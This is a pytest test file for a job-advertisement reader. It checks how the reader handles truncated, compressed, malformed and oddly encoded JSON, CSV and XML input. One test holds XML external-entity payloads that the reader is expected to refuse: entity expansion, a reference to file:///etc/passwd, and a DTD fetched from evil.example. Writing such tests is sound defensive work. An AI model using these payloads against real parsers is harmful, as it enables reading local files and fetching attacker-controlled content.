# SPDX-FileCopyrightText: 2026 The Jobunivers contributors
# SPDX-License-Identifier: EUPL-1.2
import gzip
import json

import pytest

from jobunivers.integrations.jobads import samples
from jobunivers.integrations.jobads.options import ReadOptions
from jobunivers.integrations.jobads.reading import read
from jobunivers.integrations.jobads.records import BadRecord, VacancyRecord
from jobunivers.integrations.jobads.tests.helpers import Dripping, kinds, only, only_bad, outcomes
from jobunivers.integrations.jobads.tests.test_formats import SHAPES, WHOLE

ADS = samples.SAMPLES
LINES = samples.json_lines({"id": str(n), "title": f"Job {n}", "text": "x"} for n in range(5))


@pytest.mark.parametrize("size", [1, 2, 3, 7, 64])
@pytest.mark.parametrize("name", [*WHOLE, *SHAPES])
def test_the_size_of_the_pieces_that_arrive_changes_nothing(name: str, size: int) -> None:
    text = WHOLE.get(name) or SHAPES[name]
    format_name = name if name in WHOLE else "jobposting"
    assert list(read(Dripping(text.encode(), size), format_name)) == outcomes(text, format_name)


@pytest.mark.parametrize("name", ["jobposting", "jobnet", "hropen", "nav", "jsonl"])
def test_of_half_a_file_what_was_whole_goes_in_and_the_rest_is_one_bad_record(name: str) -> None:
    whole = WHOLE[name].encode()
    for cut in range(len(whole) // 2, len(whole) - 20, 97):
        found = outcomes(whole[:cut], name)
        bad = [one for one in found if isinstance(one, BadRecord)]
        good = [one for one in found if isinstance(one, VacancyRecord)]
        assert [one.reason for one in bad] in (["truncated"], []), cut
        assert good == outcomes(whole, name)[: len(good)]
        if not bad:  # cut exactly after a line
            assert whole[:cut].rstrip().endswith(b"}")


def test_half_a_packed_file_gives_its_whole_records_and_one_truncated() -> None:
    rows = ({"id": str(n), "title": f"Job {n * 7919}", "text": str(n) * 50} for n in range(500))
    packed = gzip.compress(samples.json_lines(rows).encode())

    found = kinds(outcomes(packed[: len(packed) // 2], "jsonl"))

    assert found[-1] == "truncated"
    assert found[:-1]
    assert set(found[:-1]) == {"ok"}


def test_a_damaged_packed_file_says_so() -> None:
    packed = bytearray(gzip.compress(LINES.encode() * 2_000))
    packed[len(packed) // 2] ^= 0xFF
    packed[len(packed) // 2 + 1] ^= 0xFF

    assert kinds(outcomes(bytes(packed), "jsonl"))[-1] in ("gz_damaged", "truncated")


def test_packed_files_after_each_other_are_one_file() -> None:
    assert len(outcomes(gzip.compress(LINES.encode()) + gzip.compress(LINES.encode()))) == 10


def test_a_broken_line_harms_no_other() -> None:
    rows = LINES.splitlines()
    rows[2] = rows[2][:-5]
    found = outcomes("\n".join(rows), "jsonl")
    assert kinds(found) == ["ok", "ok", "not_json", "ok", "ok"]
    assert isinstance(found[2], BadRecord)
    assert found[2].position == 3
    assert found[2].original == rows[2]


def test_a_broken_object_in_an_array_harms_no_other() -> None:
    text = '[{"title": "a"}, {"title": nonsense}, {"title": "c"}, 7]'
    assert kinds(outcomes(text, "jsonl")) == ["ok", "not_json", "ok", "not_an_object"]


def test_a_record_beyond_the_limit_is_set_aside_and_the_next_one_read() -> None:
    options = ReadOptions(max_record_bytes=10_000)
    rows = [{"title": "a", "text": "x" * 50_000}, {"title": "b", "text": "y"}]
    for text in (samples.json_lines(rows), json.dumps(rows)):
        assert kinds(outcomes(text, "jsonl", options)) == ["too_large", "ok"]
    xml = samples.xml_document([samples.SampleAd(id="1", title="a", text="x" * 50_000), ADS[0]])
    assert kinds(outcomes(xml, "hropen", options)) == ["too_large", "ok"]
    page = samples.html_page([samples.SampleAd(id="1", title="a", text="x" * 50_000), ADS[0]])
    assert kinds(outcomes(page, "jobposting", options)) == ["too_large", "ok"]


def test_a_description_of_two_megabytes_is_kept_up_to_the_limit() -> None:
    [found] = outcomes(json.dumps({"title": "a", "text": "æ" * 1_000_000}), "jsonl")
    assert isinstance(found, VacancyRecord)
    assert len(found.description) == ReadOptions().max_description
    assert found.warnings == ("description_cut", "id_derived")


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        '<!doctype x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        '<!ENTITY a "b">',
    ],
)
def test_xml_that_declares_anything_is_refused_whole(prolog: str) -> None:
    text = samples.xml_document(ADS).replace("<Openings>", prolog + "<Openings>")
    assert only_bad(text, "hropen").reason == "xml_forbidden"
    for encoding in ("utf-16", "utf-8-sig"):
        assert only_bad(text.encode(encoding), "hropen").reason == "xml_forbidden"


def test_a_declaration_within_a_record_is_refused_too() -> None:
    opening = samples.position_opening(ADS[0]).replace(
        "<PositionProfile", "<!DOCTYPE y><PositionProfile"
    )
    assert kinds(outcomes(f"<a>{opening}</a>", "hropen")) == ["xml_forbidden"]


def test_words_in_a_text_are_no_declaration_and_no_end() -> None:
    ad = samples.SampleAd(id="1", title="a", text="<!DOCTYPE html> </PositionOpening> tekst")
    assert "tekst" in only(samples.xml_document([ad]), "hropen").description


def test_broken_xml_harms_no_other() -> None:
    parts = [samples.position_opening(ad) for ad in ADS]
    parts[1] = parts[1].replace("</PositionTitle>", "</Title>")
    assert kinds(outcomes("<a>" + "".join(parts) + "</a>")) == ["ok", "not_xml", "ok", "ok"]


def test_entities_that_only_html_knows_are_mended() -> None:
    ad = samples.position_opening(ADS[0]).replace(ADS[0].title, "K&oslash;l & frys&nbsp;AT&T")
    found = only(ad, "hropen")
    assert found.title == "Køl & frys AT&T"
    assert "entity_mended" in found.warnings


@pytest.mark.parametrize("encoding", ["iso-8859-1", "cp1252", "utf-8", "utf-8-sig", "utf-16"])
def test_danish_letters_survive_every_encoding(encoding: str) -> None:
    text = 'id,title,city\n1,"Pædagog – søges",Århus\n'
    raw = (
        text.replace("–", "-").encode(encoding)
        if encoding == "iso-8859-1"
        else text.encode(encoding)
    )
    found = only(raw)
    assert found.city == "Århus"
    assert found.title.startswith("Pædagog")


def test_a_declared_xml_encoding_is_believed() -> None:
    text = samples.xml_document([samples.SampleAd(id="1", title="Łódź", text="x")])
    raw = text.replace("UTF-8", "iso-8859-2").encode("iso-8859-2")
    assert only(raw, "hropen").title == "Łódź"


def test_two_encodings_in_one_file_both_come_out_right() -> None:
    raw = '{"id":"1","title":"søges"}\n'.encode() + '{"id":"2","title":"søges"}\n'.encode("latin-1")
    found = outcomes(raw, "jsonl")
    assert [one.title for one in found if isinstance(one, VacancyRecord)] == ["søges", "søges"]
    assert [one.warnings for one in found if isinstance(one, VacancyRecord)] == [
        (),
        ("encoding_guessed",),
    ]


def test_what_json_may_hold_and_a_database_may_not() -> None:
    found = only(
        '{"id":"1","title":"Kok \\u0000\\ud83d\\ude00 \\ud800x","text":"a\nb\u0007"}', "jsonl"
    )
    assert found.title == "Kok 😀 \ufffdx"
    assert found.description == "a\nb"
    for text in (found.original, found.title):
        assert "\0" not in text
        text.encode()


def test_a_repeated_id_is_noticed_and_kept() -> None:
    found = outcomes(LINES + LINES, "jsonl")
    assert [one.warnings for one in found if isinstance(one, VacancyRecord)] == [()] * 5 + [
        ("duplicate_id",)
    ] * 5


def test_a_record_without_id_gets_the_same_one_each_time() -> None:
    first, again = only('{"title": "Kok"}', "jsonl"), only('{ "title" : "Kok" }', "jsonl")
    other = only('{"title": "Tjener"}', "jsonl")
    assert first.source_id == again.source_id != other.source_id
    assert first.source_id.startswith("hash:")


def test_no_title_no_record() -> None:
    assert only_bad('{"id": "1", "title": " <b> </b> "}', "jsonl").reason == "no_title"


def test_json_too_deep_is_set_aside() -> None:
    deep = '{"title":' * 50_000 + "1" + "}" * 50_000
    assert kinds(outcomes(deep + "\n" + LINES, "jsonl"))[0] == "not_json"


class TestRowsOfACsvFile:
    def test_cells_may_span_lines_and_keep_blank_ones(self) -> None:
        found = only('id,title,text\n1,"Kok","a\n\nb"\n')
        assert found.description == "a\n\nb"

    def test_a_quote_that_is_never_closed_takes_one_line_with_it(self) -> None:
        text = 'id,title,city\n1,Kok,Vejle\n2,"Tjener,Vejle\n3,Smed,Vejle\n4,Murer,Vejle\n'
        assert kinds(outcomes(text)) == ["ok", "unclosed_quote", "ok", "ok"]

    def test_a_quote_within_a_word_is_only_a_quote(self) -> None:
        found = outcomes('id,title,city\n1,Montør 27" skærm,Vejle\n2,Kok,Vejle\n')
        assert [one.title for one in found if isinstance(one, VacancyRecord)] == [
            'Montør 27" skærm',
            "Kok",
        ]

    def test_too_many_cells_and_too_few(self) -> None:
        found = outcomes("id,title,city\n1,Kok,i,Vejle\n2,Smed\n3,Murer,By\n")
        assert kinds(found) == ["row_too_long", "ok", "ok"]
        assert isinstance(found[1], VacancyRecord)
        assert found[1].warnings == ("row_short",)

    def test_half_a_last_row_is_truncated(self) -> None:
        assert kinds(outcomes("id,title,city\n1,Kok,By\n2,Sm")) == ["ok", "truncated"]
        assert kinds(outcomes('id,title,city\n1,Kok,By\n2,"Sm')) == ["ok", "truncated"]

    def test_without_a_title_column_nothing_can_be_read(self) -> None:
        assert kinds(outcomes("id,by\n1,Vejle\n2,Vejle\n", "csv")) == ["no_title_column"]


@pytest.mark.parametrize("mark", [b"PK\x03\x04", b"\xfd7zXZ", b"Rar!", b"\x1f\x8b\x08"])
@pytest.mark.parametrize("size", [1, 2, 3, 5])
def test_a_packed_file_is_known_however_few_bytes_arrive_at_a_time(mark: bytes, size: int) -> None:
    data = mark + b"\0" * 40
    assert kinds(list(read(Dripping(data, size)))) == kinds(outcomes(data)) != ["unknown_format"]
